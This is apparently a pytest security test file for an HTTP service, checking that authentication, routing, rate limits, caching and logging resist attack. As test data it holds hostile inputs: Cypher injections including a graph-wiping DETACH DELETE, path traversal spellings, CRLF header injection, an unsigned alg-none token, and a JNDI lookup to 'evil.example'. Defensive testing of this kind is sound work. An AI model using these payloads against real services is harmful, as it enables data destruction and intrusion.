"""Attacks over HTTP on a service that knows its callers, each with what it gets. Of keys and tokens themselves there
are more in tests/access, and of the page in tests/web."""

import json

import pytest
import structlog
from starlette.testclient import TestClient

from service.app import create_app
from service.repositories import compartments
from service.security.rate_limits import MAX_FAILURES
from service.settings import OidcSettings, Settings
from tests.access.provider import AUDIENCE, ISSUER, SET, saying, serving, token
from tests.callers import headers_of
from tests.conftest import EXAMPLE_CLOCK, open_examples

ASK = "/v1/pathways?from=1&to=34"


@pytest.fixture(scope="module")
def examples(request, tmp_path_factory):
    """The examples on Ladybug: who is let in is no matter of the engine."""
    graph = open_examples("ladybug", request, tmp_path_factory.mktemp("attacked"))
    yield graph
    graph.close()


@pytest.fixture(scope="module")
def sent(examples):
    """What each kind of caller sends."""
    return headers_of(examples, EXAMPLE_CLOCK)


@pytest.fixture(scope="module")
def jwks():
    """Where the provider publishes its keys, and what was asked there."""
    with serving(saying(SET)) as found:
        yield found


def served(graph, oidc=None, **settings):
    """The service, without limits unless they are given."""
    said = {"auth": "on", "rate": 0, "public_rate": 0} | settings
    return TestClient(create_app(Settings(**said), graph, EXAMPLE_CLOCK, oidc=oidc), raise_server_exceptions=False)


@pytest.fixture
def client(examples, jwks):
    """A new service for each test: what was refused before is forgotten."""
    with served(examples, OidcSettings(issuer=ISSUER, audience=AUDIENCE, jwks=jwks[0])) as found:
        yield found


def refusal(response):
    """Status, type, and what the caller is asked for."""
    assert response.headers["content-type"] == "application/problem+json"
    return response.status_code, response.json()["type"].rpartition(":")[2], response.headers.get("www-authenticate")


NEEDED = (401, "sign-in-needed", 'Bearer realm="firmware-pathways"')
REFUSED = (401, "credential-refused", 'Bearer realm="firmware-pathways", error="invalid_token"')


def headers_that_are_bad(good):
    """What is sent as authorization."""
    text = good["Authorization"].removeprefix("Bearer ")
    return {
        "another scheme": [("Authorization", f"Basic {text}")],
        "no scheme": [("Authorization", text)],
        "no key": [("Authorization", "Bearer")],
        "blanks": [("Authorization", "Bearer    ")],
        "nothing": [("Authorization", "")],
        "two headers": [("Authorization", f"Bearer {text}"), ("Authorization", "Bearer x")],
        "two alike": [("Authorization", f"Bearer {text}")] * 2,
        "two in one": [("Authorization", f"Bearer {text}, Bearer {text}")],
        "a wrong key": [("Authorization", f"Bearer {text[:-1]}")],
        "no ASCII": [("Authorization", b"Bearer \xff\xfe")],
        "Cypher": [("Authorization", "Bearer pathways_' OR 1=1 RETURN k //")],
        "long": [("Authorization", "Bearer pathways_" + "x" * 50_000)],
        "an old token": [("Authorization", f"Bearer {token(exp=1)}")],
        "a token for others": [("Authorization", f"Bearer {token(aud='others')}")],
        "a token without a signature": [("Authorization", "Bearer eyJhbGciOiJub25lIiwia2lkIjoicnNhIn0.e30.")],
    }


@pytest.mark.parametrize("bad", headers_that_are_bad({"Authorization": "Bearer x"}))
@pytest.mark.parametrize("path", [ASK, "/v1/entries/1", "/healthz"])
def test_what_is_shown_and_is_not_good_is_refused_everywhere(client, sent, bad, path):
    """Where the public may ask too: whoever thinks that it is known must learn that it is not."""
    response = client.get(path, headers=headers_that_are_bad(sent["party"])[bad])
    assert refusal(response) == REFUSED
    assert response.json().keys() == {"type", "title", "status", "detail"}
    assert response.headers["cache-control"] == "no-store"


@pytest.mark.parametrize(
    ("headers", "query"),
    [
        ({"X-API-Key": "{key}"}, ""),
        ({"Cookie": "pathways={key}; __Host-pathways={key}"}, ""),
        ({"Proxy-Authorization": "Bearer {key}"}, ""),
        (
            {
                "X-Forwarded-User": "secas",
                "X-Forwarded-For": "127.0.0.1",
                "X-Role": "secas",
                "Forwarded": "for=127.0.0.1",
            },
            "",
        ),
        ({"X-HTTP-Method-Override": "POST", "X-Original-URL": "/v1/entries/1"}, ""),
        ({}, "&key={key}"),
        ({}, "&access_token={key}"),
        ({}, "&role=secas"),
    ],
)
def test_nothing_else_makes_a_caller_known(client, sent, headers, query):
    """One place to show a key, and it is in no log; who says that it is somebody is nobody."""
    key = sent["secas"]["Authorization"].removeprefix("Bearer ")
    response = client.get(
        ASK + query.format(key=key), headers={name: value.format(key=key) for name, value in headers.items()}
    )
    assert refusal(response) == NEEDED


@pytest.mark.parametrize(
    "path",
    [
        "/v1//pathways?from=1&to=34",
        "//v1/pathways?from=1&to=34",
        "/v1/pathways/?from=1&to=34",
        "/V1/pathways?from=1&to=34",
        "/v1/entries/../pathways?from=1&to=34",
        "/v1/entries/%2e%2e/pathways?from=1&to=34",
        "/v1/entries/..%2fpathways?from=1&to=34",
        "/v1/pathways%3ffrom=1&to=34",
        "/v1/pathways;x=1?from=1&to=34",
        "/v1/pathways%00?from=1&to=34",
        "/static/../v1/pathways?from=1&to=34",
        "/v1/entries/1%2ftargets",
        "/v1/entries/1/targets?",
        "/v1/entries/1/history#",
    ],
)
def test_no_spelling_of_an_address_leads_past_the_guard(client, path):
    """Either it is the same route, or none; never an answer."""
    response = client.get(path)
    assert response.status_code in (401, 404, 422)
    assert "steps" not in response.text


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "GETS", "get"])
def test_no_other_method_leads_past_the_guard(client, method):
    """Nor to a page that says more than that it is not taken."""
    response = client.request(method, ASK)
    assert response.status_code in (401, 405)
    assert "steps" not in response.text
    assert "access-control-allow-origin" not in response.headers


def test_a_body_of_nobody_is_not_read(examples):
    """Who asks is settled first: what is sent by whoever may not is not even looked at."""
    with served(examples) as client:
        for path in ("/v1/pathways", "/v1/impact", "/v1/amendments", "/v1/resolve", "/v1/receipts/verify"):
            asked = client.post(path, content=b"[" * 100_000, headers={"Content-Type": "application/json"})
            assert refusal(asked) == NEEDED
        app, taken = client.app, []

        async def receive():
            taken.append(1)
            return {"type": "http.request", "body": b"[" * 1_000, "more_body": True}

        async def send(message):
            taken.append(message) if message["type"] == "http.response.start" else None

        scope = {
            "type": "http",
            "method": "POST",
            "path": "/v1/pathways",
            "raw_path": b"/v1/pathways",
            "query_string": b"",
            "headers": [(b"content-type", b"application/json")],
            "client": ("192.0.2.1", 1),
            "server": ("x", 80),
            "scheme": "http",
            "root_path": "",
            "http_version": "1.1",
        }
        client.portal.call(app, scope, receive, send)
    assert [part["status"] for part in taken if part != 1] == [401]
    assert 1 not in taken


CYPHER = "' OR 1=1 MATCH (n) DETACH DELETE n //"


@pytest.mark.parametrize("kind", ["party", "own", "ssc", "secas"])
def test_cypher_in_every_field_is_text(client, sent, examples, kind):
    """A question that is badly formed, or of nothing; the graph is as it was."""
    before = compartments.read_state(examples)
    for path, methods in client.get("/openapi.json").json()["paths"].items():
        for method, told in methods.items():
            names = [p["name"] for p in told.get("parameters", []) if p["in"] == "query"]
            address = path.replace("{number}", CYPHER).replace("{id}", CYPHER)
            for given in ({name: CYPHER} for name in names or ["stray"]):
                body = (
                    {"json": {"edits": [{"entry": CYPHER, "bases": [CYPHER]}], "by": CYPHER}}
                    if method == "post"
                    else {}
                )
                response = client.request(method, address, params=given, headers=sent[kind], **body)
                assert response.status_code < 500, (method, path, given)
                assert response.status_code != 201
    assert compartments.read_state(examples) == before


DEEP = "[" * 50_000 + "]" * 50_000


@pytest.mark.parametrize(
    "body", [DEEP, '{"edits": ' + DEEP + "}", '{"a":' * 20_000 + "1" + "}" * 20_000, "\x00" * 10_000]
)
@pytest.mark.parametrize("path", ["/v1/pathways", "/v1/pathways/check", "/v1/resolve", "/v1/impact", "/v1/amendments"])
def test_deep_bodies_are_badly_formed(client, sent, path, body):
    """No failure of the service."""
    response = client.post(path, content=body, headers=sent["secas"] | {"Content-Type": "application/json"})
    assert response.status_code == 422


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("If-None-Match", "x\\r\\nSet-Cookie: evil=1"),
        ("Accept", "application/x-ndjson\\r\\nX: y"),
        ("Host", "evil.example"),
        ("X-Forwarded-Host", "evil.example"),
        ("If-Match", '"' + CYPHER + '"'),
        ("User-Agent", "%s%n${jndi:ldap://evil.example}"),
    ],
)
def test_no_header_comes_back_as_another(client, sent, header, value):
    """What is sent decides no header of the answer, and no address in it."""
    for path in (ASK, "/", "/sign-in", "/v1/nothing"):
        response = client.get(path, headers=sent["party"] | {header: value}, follow_redirects=False)
        assert "evil" not in json.dumps(dict(response.headers))
        assert "evil.example" not in response.text
        assert response.status_code in (200, 404)


def test_a_caller_by_token_is_one_as_by_key(client, jwks):
    """With the rights of its roles; one fetch of the provider's keys is enough for all of them."""
    before = len(jwks[1])
    for roles, status in ((["party"], 200), (["secas", "ssc"], 200), (["admin"], 403), (None, 403)):
        shown = {"Authorization": f"Bearer {token(roles=roles)}"}
        response = client.get(ASK, headers=shown)
        assert response.status_code == status
        if status == 403:
            assert refusal(response) == (403, "not-allowed", None)
    assert len(jwks[1]) == before + 1
    body = {"edits": [{"entry": "1", "bases": None}]}
    for code, status in (("FE01", 200), ("FE02", 403)):
        shown = {"Authorization": f"Bearer {token(roles=['manufacturer'], manufacturers=[code])}"}
        assert client.post("/v1/impact", json=body, headers=shown).status_code == status


def test_while_the_provider_is_away_keys_go_on_working(examples, sent):
    """A token is answered with when to try again, and not with who is away."""
    with (
        serving(saying(b"", 500)) as (url, _),
        served(examples, OidcSettings(issuer=ISSUER, audience=AUDIENCE, jwks=url)) as client,
    ):
        response = client.get(ASK, headers={"Authorization": f"Bearer {token()}"})
        assert refusal(response) == (503, "sign-in-unavailable", None)
        assert "retry-after" in response.headers
        assert "127.0.0.1" not in response.text
        assert client.get(ASK, headers=sent["party"]).status_code == 200


def test_without_a_provider_no_token_is_taken(examples):
    """However good it is."""
    with served(examples) as client:
        assert refusal(client.get(ASK, headers={"Authorization": f"Bearer {token()}"})) == REFUSED


def test_a_caller_learns_what_is_left_and_when_to_come_back(examples, sent):
    """By headers, on answers and refusals alike; others are not in its way, and probes are not in anybody's."""
    with served(examples, rate=3, public_rate=2) as client:
        party = [client.get(ASK, headers=sent["party"]) for _ in range(4)]
        assert [response.status_code for response in party] == [200, 200, 200, 429]
        assert [response.headers["ratelimit"].split(";")[:2] for response in party[:3]] == [
            ['"minute"', f"r={left}"] for left in (2, 1, 0)
        ]
        assert party[0].headers["ratelimit-policy"] == '"minute";q=3;w=60'
        assert 1 <= int(party[3].headers["retry-after"]) <= 60
        assert refusal(party[3])[:2] == (429, "too-many-requests")
        assert client.get(ASK, headers=sent["ssc"]).status_code == 200
        assert [client.get("/v1/entries/1").status_code for _ in range(3)] == [200, 200, 429]
        assert client.get("/healthz").status_code == 200
        assert client.get("/v1/nothing").status_code == 404


def test_guessing_is_slowed_and_does_not_lock_others_out(examples, sent):
    """From an address with too many wrong keys no other is looked at; one that was good before goes on."""
    with served(examples) as client:
        assert client.get(ASK, headers=sent["party"]).status_code == 200
        wrong = {"Authorization": "Bearer pathways_nobody00_" + "x" * 43}
        statuses = [client.get(ASK, headers=wrong).status_code for _ in range(MAX_FAILURES + 2)]
        assert statuses == [401] * MAX_FAILURES + [429] * 2
        assert client.get(ASK, headers=sent["ssc"]).status_code == 429
        assert client.get(ASK, headers=sent["party"]).status_code == 200
        assert client.get("/v1/entries/1").status_code == 200


def test_answers_are_kept_by_no_cache_that_others_share(client, sent):
    """What one may see must not be handed to another."""
    for path in (ASK, "/v1/entries/1", "/"):
        headers = client.get(path, headers=sent["party"]).headers
        assert headers["cache-control"] == "private, no-cache"
        assert "authorization" in headers["vary"].lower()
    tag = client.get("/v1/entries/1", headers=sent["party"]).headers["etag"]
    assert client.get("/v1/entries/1", headers={"If-None-Match": tag}).status_code == 200


def test_no_secret_is_logged(client, sent):
    """Whatever becomes of the request."""
    with structlog.testing.capture_logs() as logged:
        for kind, headers in sent.items():
            client.get(ASK, headers=headers)
            if kind != "public":
                client.get(ASK, headers={"Authorization": headers["Authorization"][:-1]})
        client.get(ASK, headers={"Authorization": f"Bearer {token(exp=1)}"})
    said = str(logged)
    assert said.count("refused") >= 6
    secrets = [headers["Authorization"].split("_", 2)[2] for headers in sent.values() if headers]
    assert len(secrets) == 5
    assert not any(secret[:20] in said or secret[-21:-1] in said for secret in secrets)
